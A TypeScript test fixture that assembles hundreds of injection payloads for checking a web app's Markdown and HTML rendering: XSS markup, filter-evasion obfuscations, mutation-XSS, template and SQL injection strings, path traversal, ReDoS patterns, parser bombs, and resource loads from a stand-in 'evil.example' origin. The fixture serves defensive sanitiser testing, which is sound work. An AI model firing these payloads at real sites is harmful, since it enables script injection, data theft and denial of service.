import { toOneLine } from '@dolph/contract/primitives'
import { isLongRun } from '../test-size.ts'
import { UNSAFE_URLS, UNUSUAL_WEB_URLS } from './injection-urls.ts'

/** Every payload tries to run this script or to make the browser send a request to this origin. */
const SCRIPT_PAYLOAD = 'top.__hit=1'
const ATTACKER_ORIGIN = 'https://evil.example'

/** Markup that would run a script, load a resource, cover the page or clobber a name if it were rendered as HTML. */
export const HTML_PAYLOADS = [
  `<script>${SCRIPT_PAYLOAD}</script>`,
  `<script src=${ATTACKER_ORIGIN}/x.js></script>`,
  `<script type=module>import("${ATTACKER_ORIGIN}/m.js")</script>`,
  `<img src=x onerror=${SCRIPT_PAYLOAD}>`,
  `<img src=${ATTACKER_ORIGIN}/pixel.png>`,
  `<img srcset="${ATTACKER_ORIGIN}/1.png 1x" alt="">`,
  `<svg onload=${SCRIPT_PAYLOAD}></svg>`,
  `<svg><script>${SCRIPT_PAYLOAD}</script></svg>`,
  `<svg><a xlink:href="javascript:${SCRIPT_PAYLOAD}"><text y=9>go</text></a></svg>`,
  `<svg><animate onbegin=${SCRIPT_PAYLOAD} attributeName=x dur=1s></svg>`,
  `<svg><use href="${ATTACKER_ORIGIN}/s.svg#x"></use></svg>`,
  `<iframe src="javascript:${SCRIPT_PAYLOAD}"></iframe>`,
  `<iframe srcdoc="<script>${SCRIPT_PAYLOAD}</script>"></iframe>`,
  `<style>*{background:url(${ATTACKER_ORIGIN}/s)}</style>`,
  `<style>@import "${ATTACKER_ORIGIN}/s.css";</style>`,
  `<link rel=stylesheet href=${ATTACKER_ORIGIN}/s.css>`,
  `<math><mtext><a href="javascript:${SCRIPT_PAYLOAD}">go</a></mtext></math>`,
  `<template shadowrootmode=open><img src=x onerror=${SCRIPT_PAYLOAD}></template>`,
  `<object data="javascript:${SCRIPT_PAYLOAD}"></object>`,
  `<embed src="${ATTACKER_ORIGIN}/e.swf">`,
  `<base href="${ATTACKER_ORIGIN}/">`,
  `<meta http-equiv=refresh content="0;url=${ATTACKER_ORIGIN}">`,
  `<form action="${ATTACKER_ORIGIN}"><button>go</button></form>`,
  `<button formaction="javascript:${SCRIPT_PAYLOAD}">go</button>`,
  `<input autofocus onfocus=${SCRIPT_PAYLOAD}>`,
  `<details open ontoggle=${SCRIPT_PAYLOAD}>go</details>`,
  `<video src=x onerror=${SCRIPT_PAYLOAD}></video>`,
  `<audio src=${ATTACKER_ORIGIN}/a.ogg autoplay></audio>`,
  `<marquee onstart=${SCRIPT_PAYLOAD}>go</marquee>`,
  `<a href="javascript:${SCRIPT_PAYLOAD}">go</a>`,
  `<p style="position:fixed;inset:0" onmouseover=${SCRIPT_PAYLOAD}>cover</p>`,
  `<div id=main class=page name=__hit>clobber</div>`,
]

type Obfuscation = (tag: string) => string

/** Ways to hide markup from a filter, and the positions in Markdown where it can stand. */
const HTML_OBFUSCATIONS: Obfuscation[] = [
  (tag) => tag.toUpperCase(),
  (tag) =>
    tag.replaceAll(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (tag) => tag.replaceAll(' ', '/'),
  (tag) => tag.replaceAll(' ', '\n\t'),
  (tag) => tag.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (tag) => tag.replaceAll('<', '&#60;').replaceAll('>', '&#x3E;'),
  (tag) => tag.replaceAll('<', '&amp;lt;'),
  (tag) => encodeURIComponent(tag),
  (tag) => tag.replaceAll('<', String.raw`\u003c`).replaceAll('>', String.raw`\x3e`),
  (tag) => tag.replaceAll('<', '\u{ff1c}').replaceAll('>', '\u{ff1e}'),
  (tag) => tag.replaceAll(/<(\w)/g, '<$1\u{200b}'),
  (tag) => `\u{202e}${tag}\u{202c}`,
  (tag) => tag.replaceAll('<', '<\u{0001}'),
  (tag) => `<!--><x-->${tag}<!--`,
  (tag) => `<![CDATA[${tag}]]>`,
  (tag) => `<<${tag}//<`,
  (tag) => tag.slice(0, -1),
  (tag) => `"'>${tag}`,
  (tag) => `</textarea></title></script></p>${tag}`,
  (tag) => `{"__html":"${tag}"}`,
  (tag) => `> ${tag}`,
  (tag) => `- [x] ${tag}`,
  (tag) => `# ${tag}`,
  (tag) => `| ${tag} |\n| :-: |\n| ${tag} |`,
  (tag) => `***${tag}***`,
  (tag) => `[${tag}](${ATTACKER_ORIGIN}/a)`,
  (tag) => `![${tag}](${ATTACKER_ORIGIN}/a.png "${tag}")`,
  (tag) => `\`${tag}\``,
  (tag) => `note[^${tag}]\n\n[^${tag}]: ${tag}`,
  (tag) => `    ${tag}`,
  (tag) => `\\${tag}`,
  (tag) => `~~~html\n${tag}\n~~~`,
]

/** Every form of a link in Markdown. */
const MARKDOWN_LINK_FORMS: ((url: string) => string)[] = [
  (url) => `[go](${url})`,
  (url) => `[go](<${url}>)`,
  (url) => `[go][1]\n\n[1]: ${url}`,
  (url) => `<${url}>`,
  (url) => `see ${url} now`,
  (url) => `![go](${url})`,
  (url) => `[![go](${url})](${url})`,
  (url) => `note[^1]\n\n[^1]: [go](${url})`,
  (url) => `[go](${url} "x\\" onmouseover=\\"${SCRIPT_PAYLOAD}")`,
  (url) => `| [go](<${url}>) |\n| --- |`,
  (url) => `<a href="${url}">go</a>`,
]

/** Code fences whose language is not a language. */
const CODE_FENCE_PAYLOADS = [
  '"><img src=x onerror=',
  'html onload=',
  'ts"><script>',
  'javascript:',
  '../../x',
  '{=html}',
  '__proto__',
  'constructor',
  'toString',
  '\u{202e}ts',
  'ts hljs-x',
  'hljs',
  'mermaid',
  'math',
].map(
  (language) =>
    `\`\`\`${language.replaceAll('`', '')}\n<img src=x onerror=${SCRIPT_PAYLOAD}>\n\`\`\``,
)

/** Strings with a special meaning in JavaScript, templates, SQL, paths or Unicode. */
const SPECIAL_STRINGS = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__hit',
  '{"__proto__":{"__hit":1}}',
  'constructor[prototype][__hit]=1',
  'null',
  'undefined',
  'NaN',
  'true',
  '-1',
  '1e999',
  '[object Object]',
  'then',
  'dangerouslySetInnerHTML',
  '$$typeof',
  `{{${SCRIPT_PAYLOAD}}}`,
  `{{constructor.constructor("${SCRIPT_PAYLOAD}")()}}`,
  `\${${SCRIPT_PAYLOAD}}`,
  `#{${SCRIPT_PAYLOAD}}`,
  `<%= ${SCRIPT_PAYLOAD} %>`,
  `{%${SCRIPT_PAYLOAD}%}`,
  `\${{<%[%'"}}%\\`,
  `$&$1$\`$'`,
  '%s%n%x',
  '%00%0d%0a',
  "' or 1=1 --",
  "'; drop table posts; --",
  '\\',
  '\\"',
  '*/ /*',
  ']]>',
  '-->',
  '../../etc/passwd',
  '%',
  '_',
  '%%',
  '(',
  '[',
  '.*',
  '(a+)+$',
  '\u{0130}\u{0131}\u{1e9e}',
  '\u{fdfa}',
  '\u{202e}gnp.exe',
  '\u{2066}a\u{2069}\u{202d}b',
  '\u{200b}\u{200d}\u{feff}a',
  'a\u{0300}'.repeat(30),
  '\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}',
  '\u{e0001}\u{e0041}a',
  '\u{fff9}a\u{fffb}',
  '\u{ffff}',
  'x'.repeat(600),
  'W'.repeat(90),
  '\u{fdfd}'.repeat(40),
  '\u{1f30a}'.repeat(90),
]

/** Markup that is harmless when parsed once and dangerous after serializing and parsing it again. */
const MUTATION_XSS_PAYLOADS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${SCRIPT_PAYLOAD}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${SCRIPT_PAYLOAD}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${SCRIPT_PAYLOAD}>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT_PAYLOAD}>">`,
  `<svg><title><style></title><img src=x onerror=${SCRIPT_PAYLOAD}></style></svg>`,
  `<table><td><a title="</a><img src=x onerror=${SCRIPT_PAYLOAD}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${SCRIPT_PAYLOAD}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${SCRIPT_PAYLOAD}>">`,
  `<select><style></select><svg onload=${SCRIPT_PAYLOAD}></style>`,
  `<p id="a" name="\u{0060}\u{0060}onmouseover=${SCRIPT_PAYLOAD}">`,
  `<a href="&#x6A;avascript&colon;${SCRIPT_PAYLOAD}">go</a>`,
  `[a](<https://a.example/"><img src=x onerror=${SCRIPT_PAYLOAD}>)`,
  `![a"onerror="${SCRIPT_PAYLOAD}](x "y)`,
  `[a]: <javascript:${SCRIPT_PAYLOAD}> "<b>"\n\n[a] [A][] ![a]`,
  `https://a.example/"onmouseover="${SCRIPT_PAYLOAD}"x="`,
  `www.a.example/<img/src=x/onerror=${SCRIPT_PAYLOAD}>`,
  `a@a.example?body=<script>${SCRIPT_PAYLOAD}</script>`,
  `<https://a.example/\u{0022}onclick=${SCRIPT_PAYLOAD}>`,
]

/** Short texts that are expensive to parse. */
const MARKDOWN_BOMBS = [
  ...['[', '*', '`', '<', '~', '|', '#', '&', '\\', '_', '!'].map((mark) => mark.repeat(900)),
  ...['a*', '**a*', '[a](', '![', '[^1]', 'www.', '|a', '- [ ] a\n'].map((mark) =>
    mark.repeat(220),
  ),
  ...['> ', '- ', '1. ', '> - '].map((mark) => `${mark.repeat(200)}a`),
  `${'*a **b '.repeat(100)}c${'** d*'.repeat(100)}`,
  `${'|a'.repeat(100)}|\n${'|-'.repeat(100)}|\n${'x\n'.repeat(300)}`,
  `\`\`\`bash\n${'${'.repeat(700)}\n\`\`\``,
  `${'['.repeat(300)}a${'](https://a.example)'.repeat(40)}`,
]

const OTHER_PAYLOADS = [
  ...CODE_FENCE_PAYLOADS,
  ...SPECIAL_STRINGS,
  ...MUTATION_XSS_PAYLOADS,
  ...MARKDOWN_BOMBS,
]

/**
 * Every kind of payload. Each payload must be rendered separately: an unclosed construct would swallow the next one. The long form
 * (`TEST_LONG=1`) has more than 700; the short one has every tag and every way to hide one once, and some of each other kind.
 */
export const INJECTION_PAYLOADS = isLongRun
  ? [
      ...HTML_PAYLOADS,
      ...combineEveryNth(HTML_PAYLOADS, HTML_OBFUSCATIONS, 4),
      ...combineEveryNth([...UNSAFE_URLS, ...UNUSUAL_WEB_URLS], MARKDOWN_LINK_FORMS, 6),
      ...OTHER_PAYLOADS,
    ]
  : [
      ...HTML_PAYLOADS,
      ...combineEveryNth(HTML_PAYLOADS, HTML_OBFUSCATIONS, HTML_OBFUSCATIONS.length),
      ...combineEveryNth([...UNSAFE_URLS, ...UNUSUAL_WEB_URLS], MARKDOWN_LINK_FORMS, 60),
      ...OTHER_PAYLOADS.filter((_, index) => index % 3 === 0),
    ]

/** Fewer payloads than this are a list that was cut by mistake. */
export const PAYLOADS_MIN = isLongRun ? 700 : 120

/** One in `step` of all pairs, spread so that each value is combined with many different forms. */
function combineEveryNth<T>(values: T[], forms: ((value: T) => string)[], step: number): string[] {
  return values.flatMap((value, row) =>
    forms.filter((_, column) => (row + column) % step === 0).map((form) => form(value)),
  )
}

/** Cuts a text to the length of a field, without cutting a character in two. */
export function truncateText(text: string, max: number): string {
  return [...text].slice(0, max).join('')
}

/** The form in which the API stores a text. */
export function normalizeText(text: string): string {
  return text.normalize('NFC').trim()
}

/** As the API stores what is shown in one line: titles, names, skills. */
export function normalizeLine(text: string): string {
  return normalizeText(toOneLine(text))
}

/** PostgreSQL stores neither unpaired surrogates nor the null character. */
export function isStorableText(text: string): boolean {
  return text.isWellFormed() && !text.includes('\u{0000}')
}
